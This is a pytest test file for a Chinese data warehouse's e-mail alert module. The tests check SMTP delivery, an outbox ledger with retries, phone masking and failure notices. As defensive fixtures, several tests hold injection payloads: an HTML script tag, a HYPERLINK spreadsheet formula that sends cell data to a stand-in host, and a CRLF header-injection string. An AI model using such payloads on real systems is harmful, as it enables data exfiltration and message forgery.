"""The inspection team's e-mail: real SMTP on loopback, the outbox in a real ledger file."""

from __future__ import annotations

import io
import re
import zipfile
from email import policy
from email.parser import BytesParser

import duckdb
import openpyxl
import pytest
from alert_fixtures import FLAGS, PHONE, SmtpServer, free_port, publish_flags

from zhaoshang import alerts
from zhaoshang import settings as settings_module


@pytest.fixture
def alert_settings(workspace, monkeypatch, smtp_server):
    monkeypatch.setenv("ZHAOSHANG_ALERT_TO", "duchazu@example.cn,kaopingban@example.cn")
    monkeypatch.setenv("ZHAOSHANG_SMTP_URL", smtp_server.url)
    return settings_module.load()


def _body(message, subtype: str) -> str:
    return message.get_body(preferencelist=(subtype,)).get_content()


def _attachment(message) -> bytes:
    parts = list(message.iter_attachments())
    assert len(parts) == 1
    assert parts[0].get_filename().endswith(".xlsx")
    return parts[0].get_content()


def _outbox(settings) -> list[tuple]:
    with duckdb.connect(str(settings.ledger_path), read_only=True) as con:
        return con.execute(
            "select alert_key, attempts, last_error, sent_at, delivered_to from alert_outbox order by created_at"
        ).fetchall()


def test_new_flags_are_mailed_once_grouped_by_unit_and_rule(alert_settings, smtp_server):
    publish_flags(alert_settings)

    status = alerts.run_after_publish(alert_settings, "run-1")

    assert status["status"] == "ok" and status["sent_smtp"] == 1
    assert len(smtp_server.inbox.envelopes) == 1
    envelope = smtp_server.inbox.envelopes[0]
    assert sorted(envelope.rcpt_tos) == ["duchazu@example.cn", "kaopingban@example.cn"]
    message = smtp_server.inbox.messages[0]
    subject = message["Subject"]
    assert "\r" not in subject and "\n" not in subject
    assert subject.startswith("【招商引资疑点】新增6条")
    for part in ("以旧充新2", "以小充大1", "拼凑挂靠1", "统一社会信用代码无效1", "漏报1"):
        assert part in subject
    key = status["queued"]
    assert key and key in subject and message["X-Zhaoshang-Alert-Key"] == key

    text = _body(message, "plain")
    assert (
        "济阳镇（共 3 条）" in text and "城关镇（共 2 条）" in text and "财政局（共 1 条）" in text
    )
    assert "以旧充新（OLD_AS_NEW）：2 条" in text
    assert "文件“2021/济阳镇3月.xlsx” 工作表“Sheet1” 第5行" in text
    html = _body(message, "html")
    assert "济阳镇（共 3 条）" in html and "按单位和规则汇总" in html

    book = openpyxl.load_workbook(io.BytesIO(_attachment(message)))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    assert header[:11] == [
        "单位",
        "年",
        "月",
        "规则",
        "规则代码",
        "严重程度",
        "项目名称",
        "文件",
        "工作表",
        "行号",
        "疑点说明",
    ]
    rows = [[c.value for c in r] for r in sheet.iter_rows(min_row=2)]
    assert len(rows) == len(FLAGS)
    by_key = {r[11]: r for r in rows}
    old = by_key["k-old-1"]
    assert old[0] == "济阳镇" and old[4] == "OLD_AS_NEW" and old[7] == "2021/济阳镇3月.xlsx"
    assert old[8] == "Sheet1" and old[9] == 5 and old[10].startswith("本行填为“新引进”")

    # the next night, nothing new: no e-mail
    again = alerts.run_after_publish(alert_settings, "run-2")
    assert again["queued"] is None and again["status"] == "ok"
    assert len(smtp_server.inbox.envelopes) == 1


def test_only_new_flags_go_out_the_next_night(alert_settings, smtp_server):
    publish_flags(alert_settings, FLAGS[:2])
    alerts.run_after_publish(alert_settings, "run-1")
    publish_flags(alert_settings, FLAGS[:3])
    alerts.run_after_publish(alert_settings, "run-2")

    assert len(smtp_server.inbox.envelopes) == 2
    second = smtp_server.inbox.messages[1]
    assert "新增1条：以小充大1" in second["Subject"]
    rows = list(
        openpyxl.load_workbook(io.BytesIO(_attachment(second))).active.iter_rows(
            min_row=2, values_only=True
        )
    )
    assert [r[11] for r in rows] == ["k-inf-1"]


def test_dismissed_flags_never_alert(alert_settings, smtp_server):
    # The decision is read from audit.dq_flags.status only (dbt merged the store and the CSV);
    # a CSV line the warehouse has not taken in yet does not count twice.
    decisions = alert_settings.reference_dir / "flag_decisions.csv"
    decisions.write_text(
        "flag_key,decision,decided_by,decided_at,note\nk-dup-1,dismissed,王督查,2021-04-02,x\n",
        encoding="utf-8",
    )
    publish_flags(
        alert_settings, status={"k-old-2": "dismissed", "k-miss-1": "confirmed", "k-inf-1": "open"}
    )

    alerts.run_after_publish(alert_settings, "run-1")

    message = smtp_server.inbox.messages[0]
    assert "新增4条" in message["Subject"]
    keys = [
        r[11]
        for r in openpyxl.load_workbook(io.BytesIO(_attachment(message))).active.iter_rows(
            min_row=2, values_only=True
        )
    ]
    assert "k-old-2" not in keys and "k-miss-1" not in keys
    assert "k-dup-1" in keys and "k-inf-1" in keys


def test_smtp_outage_keeps_the_alert_queued_and_a_later_run_delivers_it_once(
    workspace, monkeypatch
):
    port = free_port()  # nothing listens here yet: connection refused
    monkeypatch.setenv("ZHAOSHANG_ALERT_TO", "duchazu@example.cn")
    monkeypatch.setenv("ZHAOSHANG_SMTP_URL", f"smtp://127.0.0.1:{port}")
    settings = settings_module.load()
    publish_flags(settings)

    down = alerts.run_after_publish(settings, "run-1")

    assert down["status"] == "pending" and down["failed"] == 1 and down["pending"] == 1
    [(key, attempts, last_error, sent_at, _)] = _outbox(settings)
    assert key == down["queued"] and attempts == 1 and sent_at is None
    assert "ConnectionRefusedError" in last_error

    # still down: no new alert, the old one stays queued
    down_again = alerts.run_after_publish(settings, "run-2")
    assert down_again["queued"] is None and down_again["pending"] == 1
    assert _outbox(settings)[0][1] == 2

    server = SmtpServer(port).start()
    try:
        up = alerts.run_after_publish(settings, "run-3")
        assert up["status"] == "ok" and up["sent_smtp"] == 1 and up["pending"] == 0
        later = alerts.deliver_pending(settings)
        assert later["sent_smtp"] == 0
        assert len(server.inbox.envelopes) == 1
        assert key in server.inbox.messages[0]["Subject"]
    finally:
        server.stop()
    [(_, attempts, _, sent_at, delivered_to)] = _outbox(settings)
    assert attempts == 3 and sent_at is not None and delivered_to == "smtp"


def test_script_in_a_project_name_is_escaped_in_html(alert_settings, smtp_server):
    publish_flags(alert_settings)
    alerts.run_after_publish(alert_settings, "run-1")
    html = _body(smtp_server.inbox.messages[0], "html")
    assert "<script>" not in html
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;物流园" in html


def test_formula_like_project_name_is_inert_text_in_the_workbook(alert_settings, smtp_server):
    publish_flags(alert_settings)
    alerts.run_after_publish(alert_settings, "run-1")
    data = _attachment(smtp_server.inbox.messages[0])

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula cell anywhere
    cells = [c for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
    formula_like = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert len(formula_like) == 1
    assert formula_like[0].data_type == "s"
    assert formula_like[0].value == '\'=HYPERLINK("http://x.example/?"&A1,"点击")'


def test_no_phone_number_in_any_output(alert_settings, smtp_server):
    publish_flags(alert_settings)
    alerts.run_after_publish(alert_settings, "run-1")
    alerts.notify_failure(
        alert_settings, dag_id="zhaoshang_nightly", run_id="run-1", error=f"联系 {PHONE} 失败"
    )

    def decoded(message) -> list[str]:
        texts = [message["Subject"]]
        for part in message.walk():
            if part.get_content_maintype() == "text":
                texts.append(part.get_content())
            elif part.get_filename():
                with zipfile.ZipFile(io.BytesIO(part.get_content())) as archive:
                    texts.extend(archive.read(n).decode("utf-8") for n in archive.namelist())
        return texts

    outputs: list[str] = []
    for message in smtp_server.inbox.messages:
        outputs.extend(decoded(message))
    for path in (alert_settings.output_dir / "alerts").iterdir():
        if path.suffix == ".eml":
            outputs.extend(
                decoded(BytesParser(policy=policy.default).parsebytes(path.read_bytes()))
            )
        else:
            outputs.append(path.read_text(encoding="utf-8"))
    with duckdb.connect(str(alert_settings.ledger_path), read_only=True) as con:
        for row in con.execute(
            "select subject, body_text, body_html, last_error from alert_outbox"
        ).fetchall():
            outputs.extend(str(v) for v in row)
    assert len(smtp_server.inbox.envelopes) == 2
    assert any("138****5678" in text for text in outputs)
    assert not [t for t in outputs if re.search(r"1[3-9]\d{9}", t.replace("\n", ""))]


def test_without_smtp_the_alert_is_written_to_the_output_dir(workspace):
    publish_flags(workspace)
    status = alerts.run_after_publish(workspace, "run-1")

    assert status["written_to_file"] == 1 and status["pending"] == 0
    key = status["queued"]
    eml = workspace.output_dir / "alerts" / f"{key}.eml"
    html = workspace.output_dir / "alerts" / f"{key}.html"
    assert eml.exists() and html.exists()
    assert "按单位和规则汇总" in html.read_text(encoding="utf-8")
    [(_, _, _, sent_at, delivered_to)] = _outbox(workspace)
    assert sent_at is not None and delivered_to == f"file:{eml}"
    assert alerts.run_after_publish(workspace, "run-2")["queued"] is None


def test_dag_failure_notice_goes_to_the_same_team_once_per_run(alert_settings, smtp_server):
    first = alerts.notify_failure(
        alert_settings,
        dag_id="zhaoshang_nightly",
        run_id="scheduled__2021-06-30",
        task_id="build_marts",
        error="DbtBuildFailed: dbt 构建失败\r\nSubject: injected",
    )
    second = alerts.notify_failure(
        alert_settings, dag_id="zhaoshang_nightly", run_id="scheduled__2021-06-30"
    )

    assert first["status"] == "ok" and first["sent_smtp"] == 1
    assert second["queued"] is False and second["sent_smtp"] == 0
    [message] = smtp_server.inbox.messages
    assert message["Subject"].startswith("【招商引资数据仓库】夜间作业失败：zhaoshang_nightly")
    assert "injected" not in message["Subject"]
    assert "build_marts" in _body(message, "plain")
    assert "上一次成功运行的版本" in _body(message, "html")


def test_notify_failure_never_raises_without_a_usable_ledger(workspace, monkeypatch):
    workspace.state_dir.mkdir(parents=True, exist_ok=True)
    workspace.ledger_path.write_bytes(b"not a duckdb file")
    status = alerts.notify_failure(workspace, dag_id="zhaoshang_nightly", run_id="r1", error="boom")
    assert status["status"] == "written_without_outbox"
    assert (workspace.output_dir / "alerts" / f"{status['alert_key']}.eml").exists()
